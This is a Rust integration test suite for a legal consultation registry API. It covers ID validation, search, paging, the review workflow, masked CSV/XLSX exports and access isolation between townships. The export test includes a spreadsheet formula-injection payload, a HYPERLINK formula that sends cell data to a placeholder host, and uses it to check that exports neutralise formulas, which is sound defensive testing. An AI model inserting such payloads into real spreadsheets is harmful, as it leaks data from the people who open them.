//! Consultations: registration with ID checks, search, review, repeat visitors, the ledger and
//! personal data masking.

use actix_web::http::{header, Method};
use serde_json::{json, Value};

use crate::backend_tests;
use crate::helpers::{spawn_app, Backend, TestApp};

backend_tests!(
    an_id_number_ending_in_x_is_accepted_and_a_wrong_check_digit_is_not,
    filters_and_chinese_text_search_return_the_right_rows,
    paging_is_stable_while_new_rows_arrive,
    small_and_large_subtrees_list_the_same_rows_in_the_same_order,
    review_approves_returns_and_an_edit_reopens,
    repeat_visitors_are_recognised,
    the_ledger_exports_csv_and_xlsx_with_chinese_headers_and_masking,
    a_township_cannot_see_another_townships_consultations,
    providers_read_only_what_they_answered_and_masked,
);

/// A valid registration of a consultation at `unit` (shared with the fault and race tests).
pub fn body(unit: i64, question: &str) -> Value {
    json!({
        "unit_id": unit, "received_at": "2023-03-07T09:40:00+08:00", "channel": "walk_in",
        "site": "fixed_station", "topics": ["support_maintenance"], "question": question,
        "answer": "可协商、申请人民调解或起诉。", "outcome": "answered", "callback_consent": true
    })
}

async fn register(app: &TestApp, user: &str, b: &Value) -> Value {
    let res = app.post("/api/v1/consultations", user, b).await;
    assert_eq!(res.status, 201, "{}", String::from_utf8_lossy(&res.body));
    res.json()
}

async fn an_id_number_ending_in_x_is_accepted_and_a_wrong_check_digit_is_not(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    let mut b = body(lg, "子女不履行赡养义务怎么办？");
    b["person"] =
        json!({"name": "李某", "id_number": "11010519491231002x", "phone": "138 1234 5678"});
    let c = register(&app, "staff.longgang", &b).await;
    assert_eq!(c["person"]["age"], 73);
    assert_eq!(c["person"]["sex"], "female");
    assert_eq!(c["person"]["age_group"], "elderly");
    assert_eq!(c["person"]["birth_date"], "1949-12-31");
    assert_eq!(c["person"]["id_number"], "11010519491231002X");
    assert_eq!(c["person"]["phone"], "13812345678");
    assert_eq!(c["special_groups"], json!(["elderly"]));
    assert_eq!(c["review"]["state"], "pending");

    let before = app.row_counts();
    let mut bad = b.clone();
    bad["person"]["id_number"] = json!("110105194912310021");
    let p = app
        .post("/api/v1/consultations", "staff.longgang", &bad)
        .await
        .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "person.id_number");
    let mut bad = b.clone();
    bad["person"]["sex"] = json!("male");
    let p = app
        .post("/api/v1/consultations", "staff.longgang", &bad)
        .await
        .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "person.sex");
    let mut bad = b.clone();
    bad["person"]["phone"] = json!("12345");
    app.post("/api/v1/consultations", "staff.longgang", &bad)
        .await
        .assert_problem(422);
    let mut bad = b.clone();
    bad["topics"] = json!([]);
    app.post("/api/v1/consultations", "staff.longgang", &bad)
        .await
        .assert_problem(422);
    let mut bad = b.clone();
    bad["received_at"] = json!("2999-01-01T00:00:00+08:00");
    app.post("/api/v1/consultations", "staff.longgang", &bad)
        .await
        .assert_problem(422);
    assert_eq!(app.row_counts(), before, "nothing written");
    // Auditors read but do not register.
    app.post("/api/v1/consultations", "auditor", &b)
        .await
        .assert_problem(403);
}

async fn filters_and_chinese_text_search_return_the_right_rows(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    let zc = app.unit_id("140521-SFS-ZC");
    let mut a = body(lg, "拖欠农民工工资如何讨要？");
    a["topics"] = json!(["labour_wages"]);
    a["special_groups"] = json!(["migrant_worker"]);
    a["channel"] = json!("hotline12348");
    a["site"] = json!("remote");
    let a = register(&app, "admin", &a).await;
    let mut b = body(zc, "宅基地被占用怎么办？");
    b["topics"] = json!(["land_rights", "neighbour_disputes"]);
    b["outcome"] = json!("referred_mediation");
    let b = register(&app, "admin", &b).await;
    let mut c = body(lg, "离婚后孩子抚养费怎么算？");
    c["topics"] = json!(["marriage_family", "support_maintenance"]);
    c["received_at"] = json!("2023-04-01T10:00:00+08:00");
    let c = register(&app, "admin", &c).await;

    let ids = |v: Value| -> Vec<i64> {
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|i| i["id"].as_i64())
            .collect()
    };
    let get = |q: &str| {
        let q = q.to_owned();
        let app = &app;
        async move {
            app.get(&format!("/api/v1/consultations?{q}"), "admin")
                .await
                .json()
        }
    };
    assert_eq!(
        ids(get("q=%E5%B7%A5%E8%B5%84").await),
        vec![a["id"].as_i64().unwrap()],
        "工资"
    );
    assert_eq!(
        ids(get("q=%E6%8A%9A%E5%85%BB").await),
        vec![c["id"].as_i64().unwrap()],
        "抚养 in the question"
    );
    assert_eq!(
        ids(get("q=%E8%B0%83%E8%A7%A3").await).len(),
        3,
        "调解 in every answer"
    );
    assert_eq!(
        ids(get("topic=land_rights").await),
        vec![b["id"].as_i64().unwrap()]
    );
    assert_eq!(
        ids(get("topic=support_maintenance").await),
        vec![c["id"].as_i64().unwrap()]
    );
    assert_eq!(
        ids(get("special_group=migrant_worker").await),
        vec![a["id"].as_i64().unwrap()]
    );
    assert_eq!(
        ids(get("channel=hotline12348").await),
        vec![a["id"].as_i64().unwrap()]
    );
    assert_eq!(
        ids(get("outcome=referred_mediation").await),
        vec![b["id"].as_i64().unwrap()]
    );
    assert_eq!(
        ids(get(&format!("unit_id={zc}")).await),
        vec![b["id"].as_i64().unwrap()]
    );
    assert_eq!(
        ids(get("from=2023-04-01&to=2023-04-01").await),
        vec![c["id"].as_i64().unwrap()]
    );
    assert_eq!(ids(get("from=2023-03-07&to=2023-03-07").await).len(), 2);
    assert_eq!(ids(get("review_state=pending").await).len(), 3);
    // A search string with LIKE wildcards matches literally.
    assert!(ids(get("q=%25").await).is_empty());
    app.get("/api/v1/consultations?topic=astrology", "admin")
        .await
        .assert_problem(400);
}

async fn paging_is_stable_while_new_rows_arrive(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    for day in 1..=7 {
        let mut b = body(lg, &format!("第{day}个问题"));
        b["received_at"] = json!(format!("2023-05-{day:02}T09:00:00+08:00"));
        register(&app, "admin", &b).await;
    }
    let first = app
        .get("/api/v1/consultations?limit=3", "admin")
        .await
        .json();
    let mut seen: Vec<String> = first["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["question"].as_str().unwrap().to_owned())
        .collect();
    // New registrations arrive (a newer one, and a backdated one) between pages.
    let mut newer = body(lg, "新问题");
    newer["received_at"] = json!("2023-05-20T09:00:00+08:00");
    register(&app, "admin", &newer).await;
    let mut cursor = first["next_cursor"].as_str().unwrap().to_owned();
    loop {
        let page = app
            .get(
                &format!("/api/v1/consultations?limit=3&cursor={cursor}"),
                "admin",
            )
            .await
            .json();
        seen.extend(
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|i| i["question"].as_str().unwrap().to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(c) => cursor = c.to_owned(),
            None => break,
        }
    }
    let expected: Vec<String> = (1..=7).rev().map(|d| format!("第{d}个问题")).collect();
    assert_eq!(
        seen, expected,
        "each existing row exactly once, newest first"
    );
}

/// A subtree of a few units is listed unit by unit and merged, a larger one by one query over
/// the subtree: both give the same rows in the same order, page after page.
async fn small_and_large_subtrees_list_the_same_rows_in_the_same_order(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    let other = app.unit_id("140521-SFS-ZC");
    // Interleaved times across two offices, and two rows at the same instant (the id decides).
    for (n, (unit, day)) in [
        (lg, 3),
        (other, 2),
        (lg, 1),
        (other, 3),
        (other, 5),
        (lg, 5),
        (lg, 4),
    ]
    .into_iter()
    .enumerate()
    {
        let mut b = body(unit, &format!("分页核对{n}"));
        b["received_at"] = json!(format!("2023-06-{day:02}T09:00:00+08:00"));
        register(&app, "admin", &b).await;
    }
    // Every page of the list, `filter` applied.
    let app = &app;
    let walk = |filter: String| async move {
        let mut seen = Vec::new();
        let mut next = Some(String::new());
        while let Some(cursor) = next {
            let query = if cursor.is_empty() {
                String::new()
            } else {
                format!("&cursor={cursor}")
            };
            let page = app
                .get(
                    &format!("/api/v1/consultations?limit=2{filter}{query}"),
                    "admin",
                )
                .await
                .json();
            for item in page["items"].as_array().unwrap() {
                seen.push((
                    item["received_at"].as_str().unwrap().to_owned(),
                    item["id"].as_i64().unwrap(),
                ));
            }
            next = page["next_cursor"].as_str().map(str::to_owned);
        }
        seen
    };
    const MINE: &str = "&q=%E5%88%86%E9%A1%B5%E6%A0%B8%E5%AF%B9";
    // The unfiltered list (read unit by unit in one statement on PostgreSQL) holds the filtered
    // one (read by the service unit by unit, or by time) in the same order.
    let agree = |all: &[(String, i64)], mine: &[(String, i64)]| {
        let ids: std::collections::HashSet<i64> = mine.iter().map(|m| m.1).collect();
        let of_mine: Vec<_> = all.iter().filter(|a| ids.contains(&a.1)).cloned().collect();
        assert_eq!(of_mine, mine, "the unfiltered and the filtered list agree");
        let mut sorted = all.to_vec();
        sorted.sort_by(|a, b| b.cmp(a));
        sorted.dedup();
        assert_eq!(all, sorted, "newest first, each row once");
    };
    let units = app.get("/api/v1/units?limit=100", "admin").await.json();
    let count = units["items"].as_array().unwrap().len();
    assert!(
        count <= 32,
        "the demo county is a small subtree ({count} units)"
    );
    let few = walk(MINE.to_owned()).await;
    assert_eq!(few.len(), 7);
    let mut expected = few.clone();
    expected.sort_by(|a, b| b.cmp(a));
    assert_eq!(
        few, expected,
        "newest first, the larger id first at the same instant"
    );
    let all = walk(String::new()).await;
    agree(&all, &few);
    // Enough villages that the county's subtree is no longer a small one.
    for n in 0..40 {
        let res = app
            .post(
                "/api/v1/units",
                "admin",
                &json!({"parent_id": lg, "kind": "village_workstation",
                        "code": format!("140521-LG-{n:03}"), "name": format!("第{n}村工作室")}),
            )
            .await;
        assert_eq!(res.status, 201, "{}", String::from_utf8_lossy(&res.body));
    }
    assert_eq!(walk(MINE.to_owned()).await, few);
    assert_eq!(walk(String::new()).await, all);
    // A unit filter narrows the unit-by-unit read to that office's subtree.
    let of_lg = walk(format!("&unit_id={lg}")).await;
    let lg_rows: Vec<_> = few.iter().filter(|r| of_lg.contains(r)).cloned().collect();
    assert_eq!(lg_rows.len(), 4, "the four rows registered at the office");
    agree(&of_lg, &lg_rows);
}

async fn review_approves_returns_and_an_edit_reopens(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    let first = register(&app, "staff.longgang", &body(lg, "问题一")).await;
    let second = register(&app, "staff.longgang", &body(lg, "问题二")).await;
    let queue = app
        .get("/api/v1/consultations/review-queue", "admin")
        .await
        .json();
    let waiting: Vec<i64> = queue["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["consultation"]["id"].as_i64().unwrap())
        .collect();
    assert_eq!(
        waiting,
        vec![
            first["id"].as_i64().unwrap(),
            second["id"].as_i64().unwrap()
        ],
        "oldest first"
    );
    assert!(queue["items"][0]["waiting_seconds"].as_i64().unwrap() >= 0);
    app.get("/api/v1/consultations/review-queue", "staff.longgang")
        .await
        .assert_problem(403);

    let id = first["id"].as_i64().unwrap();
    let review = |b: Value, tag: &str| {
        app.call(
            app.req(
                Method::POST,
                &format!("/api/v1/consultations/{id}/review"),
                Some("admin"),
            )
            .insert_header((header::IF_MATCH, tag.to_owned()))
            .set_json(b),
        )
    };
    review(json!({"decision": "return"}), "\"1\"")
        .await
        .assert_problem(422);
    let returned = review(
        json!({"decision": "return", "comment": "请补充答复依据"}),
        "\"1\"",
    )
    .await;
    assert_eq!(
        returned.status,
        200,
        "{}",
        String::from_utf8_lossy(&returned.body)
    );
    assert_eq!(returned.json()["review"]["state"], "returned");
    assert_eq!(returned.json()["review"]["reviewed_by"], "admin");
    let p = review(json!({"decision": "approve"}), "\"2\"")
        .await
        .assert_problem(409);
    assert!(p["detail"].as_str().unwrap().contains("returned"));
    // Correcting it returns it to review.
    let mut fixed = body(lg, "问题一");
    fixed["answer"] = json!("依据《民法典》第一千零六十七条，可要求支付赡养费。");
    let edited = app
        .call(
            app.req(
                Method::PUT,
                &format!("/api/v1/consultations/{id}"),
                Some("staff.longgang"),
            )
            .insert_header((header::IF_MATCH, "\"2\""))
            .set_json(fixed),
        )
        .await;
    assert_eq!(
        edited.status,
        200,
        "{}",
        String::from_utf8_lossy(&edited.body)
    );
    assert_eq!(edited.json()["review"]["state"], "pending");
    let approved = review(json!({"decision": "approve"}), "\"3\"").await;
    assert_eq!(approved.json()["review"]["state"], "approved");
    let trail = app
        .get(
            &format!("/api/v1/audit-events?entity=consultation&entity_id={id}"),
            "auditor",
        )
        .await
        .json();
    let actions: Vec<&str> = trail["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    assert_eq!(
        actions,
        vec!["create", "review_return", "update", "review_approve"]
    );
}

async fn repeat_visitors_are_recognised(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    let mut b = body(lg, "第一次来");
    b["person"] = json!({"id_number": "440524188001010014"});
    let first = register(&app, "staff.longgang", &b).await;
    assert_eq!(first["repeat_visits"]["count"], 0);
    let mut b = body(lg, "又来了");
    b["person"] = json!({"phone": "13900001111"});
    register(&app, "staff.longgang", &b).await;
    let mut b = body(lg, "第三次");
    b["person"] = json!({"id_number": "440524188001010014", "phone": "13900001111"});
    let third = register(&app, "staff.longgang", &b).await;
    assert_eq!(third["repeat_visits"]["count"], 2);
    assert_eq!(
        third["repeat_visits"]["earlier"].as_array().map(Vec::len),
        Some(2)
    );
    let href = third["repeat_visits"]["earlier"][1]["href"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(href, format!("/api/v1/consultations/{}", first["id"]));
    assert_eq!(app.get(&href, "staff.longgang").await.status, 200);
}

async fn the_ledger_exports_csv_and_xlsx_with_chinese_headers_and_masking(backend: Backend) {
    let app = spawn_app(backend).await;
    let lg = app.unit_id("140521-SFS-LG");
    let mut b = body(lg, "工伤赔偿怎么申请？");
    b["person"] =
        json!({"name": "王某", "id_number": "11010519491231002X", "phone": "13812345678"});
    b["topics"] = json!(["labour_wages", "social_security"]);
    register(&app, "staff.longgang", &b).await;

    let csv = app
        .get("/api/v1/consultations/export?format=csv", "admin")
        .await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    assert!(csv.body.starts_with(&[0xEF, 0xBB, 0xBF]), "UTF-8 BOM");
    let text = String::from_utf8(csv.body[3..].to_vec()).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(headers[0], "编号");
    assert!(headers.contains(&"身份证号".to_owned()) && headers.contains(&"咨询事项".to_owned()));
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows.len(), 1);
    let cell = |name: &str| {
        rows[0]
            .get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
            .to_owned()
    };
    assert_eq!(cell("登记单位"), "龙港镇司法所");
    assert_eq!(cell("咨询方式"), "来访");
    assert_eq!(cell("咨询事项"), "社会保障、劳动报酬");
    assert_eq!(
        cell("身份证号"),
        "11010519491231002X",
        "an admin sees it in full"
    );

    // An auditor's export is masked, in CSV and XLSX alike.
    let csv = app
        .get("/api/v1/consultations/export?format=csv", "auditor")
        .await;
    let text = String::from_utf8_lossy(&csv.body);
    assert!(
        text.contains("1101**************") && text.contains("138****5678"),
        "{text}"
    );
    assert!(!text.contains("11010519491231002X") && !text.contains("13812345678"));

    let xlsx = app
        .get("/api/v1/consultations/export?format=xlsx", "auditor")
        .await;
    assert_eq!(xlsx.status, 200);
    use calamine::Reader as _;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.body.clone()))
            .expect("a valid workbook");
    let sheet = book.worksheet_range("咨询台账").expect("the ledger sheet");
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][0], "编号");
    assert_eq!(rows[0][11], "身份证号");
    assert_eq!(rows[1][11], "1101**************");
    assert_eq!(rows[1][12], "138****5678");
    assert_eq!(rows[1][14], "社会保障、劳动报酬");
    app.get("/api/v1/consultations/export?format=pdf", "admin")
        .await
        .assert_problem(400);

    // Text that a spreadsheet would run as a formula is written so that it is only shown.
    let mut formula = body(lg, "=HYPERLINK(\"http://x.test/?\"&A2,\"点击\")");
    formula["answer"] = json!("@SUM(1+1)");
    register(&app, "staff.longgang", &formula).await;
    let csv = app
        .get("/api/v1/consultations/export?format=csv", "admin")
        .await;
    let text = String::from_utf8(csv.body[3..].to_vec()).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = rows
        .iter()
        .find(|r| r[column("咨询内容")].contains("HYPERLINK"))
        .expect("the second registration");
    assert!(row[column("咨询内容")].starts_with("'="), "{row:?}");
    assert!(row[column("答复内容")].starts_with("'@"), "{row:?}");
}

async fn a_township_cannot_see_another_townships_consultations(backend: Backend) {
    let app = spawn_app(backend).await;
    let zc = app.unit_id("140521-SFS-ZC");
    let lg = app.unit_id("140521-SFS-LG");
    let mut b = body(zc, "中村镇的咨询");
    b["person"] = json!({"phone": "13700001234"});
    let other = register(&app, "admin", &b).await;
    let own = register(&app, "staff.longgang", &body(lg, "龙港镇的咨询")).await;
    app.get(
        &format!("/api/v1/consultations/{}", other["id"]),
        "staff.longgang",
    )
    .await
    .assert_problem(404);
    let list = app
        .get("/api/v1/consultations", "staff.longgang")
        .await
        .json();
    let ids: Vec<i64> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["id"].as_i64())
        .collect();
    assert_eq!(ids, vec![own["id"].as_i64().unwrap()]);
    let csv = app
        .get("/api/v1/consultations/export?format=csv", "staff.longgang")
        .await;
    let text = String::from_utf8_lossy(&csv.body);
    assert!(text.contains("龙港镇的咨询") && !text.contains("中村镇的咨询"));
    // Nor change it.
    app.call(
        app.req(
            Method::PUT,
            &format!("/api/v1/consultations/{}", other["id"]),
            Some("staff.longgang"),
        )
        .set_json(body(lg, "x")),
    )
    .await
    .assert_problem(404);
    // Nor register for it.
    app.post("/api/v1/consultations", "staff.longgang", &body(zc, "x"))
        .await
        .assert_problem(422);
}

async fn providers_read_only_what_they_answered_and_masked(backend: Backend) {
    let app = spawn_app(backend).await;
    let centre = app.unit_id("140521-GGFLFW");
    let staff = app
        .get(&format!("/api/v1/staff?unit_id={centre}"), "admin")
        .await
        .json();
    let (mine, other) = (
        staff["items"][0]["id"].as_i64().unwrap(),
        staff["items"][1]["id"].as_i64().unwrap(),
    );
    app.link_staff("lawyer", mine).await;
    let mut a = body(centre, "我解答的咨询");
    a["staff_id"] = json!(mine);
    a["person"] = json!({"phone": "13812345678"});
    let a = register(&app, "admin", &a).await;
    let mut b = body(centre, "同事解答的咨询");
    b["staff_id"] = json!(other);
    let b = register(&app, "admin", &b).await;
    let list = app.get("/api/v1/consultations", "lawyer").await.json();
    let ids: Vec<i64> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["id"].as_i64())
        .collect();
    assert_eq!(ids, vec![a["id"].as_i64().unwrap()]);
    assert_eq!(
        list["items"][0]["person"]["phone"], "138****5678",
        "providers see personal data masked"
    );
    app.get(&format!("/api/v1/consultations/{}", b["id"]), "lawyer")
        .await
        .assert_problem(404);
}
